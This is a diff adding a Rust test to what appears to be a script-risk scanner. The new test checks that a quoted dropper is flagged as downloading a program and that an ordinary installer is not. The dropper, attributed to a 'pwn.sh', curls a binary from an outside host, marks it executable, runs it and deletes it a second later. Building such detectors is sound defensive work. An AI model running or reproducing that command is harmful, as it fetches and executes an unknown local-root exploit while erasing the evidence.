@@ -643,3 +643,12 @@ fn a_socks_proxy_server_is_network_from_input() {
         "import socket\ns = socket.create_connection(('proxy.example.net', 1080))\ns.sendall(b\"\\x05\\x01\\x00\")\n";
     assert_eq!(whys(client), []);
 }
+
+#[test]
+fn a_download_started_and_deleted_behind_its_back_is_a_dropper() {
+    // fresh155's `pwn.sh`: the local-root exploit removed a second after it starts.
+    let pwn = "curl -fsSL http://segyero.medican.kr/data/pwn -o pwn || exit\nchmod +x ./pwn || exit\n(sleep 1 && rm ./pwn & )\n./pwn\n";
+    assert_eq!(whys(pwn), [Why::DownloadsProgram]);
+    // An installer keeps what it installs.
+    assert_eq!(whys("curl -fsSL https://get.example.org/tool -o tool\nchmod +x ./tool\n./tool --version\n"), []);
+}
